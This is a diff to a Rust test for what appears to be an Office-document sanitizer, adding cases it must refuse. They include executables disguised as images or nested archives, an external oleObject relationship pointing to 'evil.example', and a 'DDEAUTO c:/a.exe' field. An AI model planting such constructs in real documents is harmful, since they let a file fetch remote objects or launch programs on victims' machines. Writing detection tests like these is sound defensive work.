@@ -56,7 +56,10 @@ fn what_runs_is_refused_wherever_it_hides() {
         WORD,
         ("word/embeddings/a.docx", &archive(&[TYPES, WORD])),
     ]);
-    let cases: [((&str, &[u8]), &str); 14] = [
+    let stray = archive(&[("run.exe", b"MZ")]);
+    let rels = br#"<Relationships><Relationship Type="http://x/oleObject" Target="http://evil.example/a" TargetMode="External"/></Relationships>"#;
+    let field = b"<w:fldSimple w:instr='DDEAUTO c:/a.exe'/>";
+    let cases: [((&str, &[u8]), &str); 18] = [
         (("word/vbaProject.bin", b"x"), "宏"),
         (("word/VBAPROJECT.BIN", b"x"), "宏"),
         (("xl/macrosheets/sheet1.xml", b"x"), "宏"),
@@ -76,6 +79,10 @@ fn what_runs_is_refused_wherever_it_hides() {
             ),
             "模板",
         ),
+        (("word/media/a.png", &stray), "嵌入"),
+        (("customXml/a.zip", &stray), "嵌入"),
+        (("word/_rels/document.xml.rels", rels), "外部"),
+        (("word/header1.xml", field), "DDE"),
         (("docProps/app.xml", b"<x/>"), ""),
     ];
     for (entry, word) in cases {
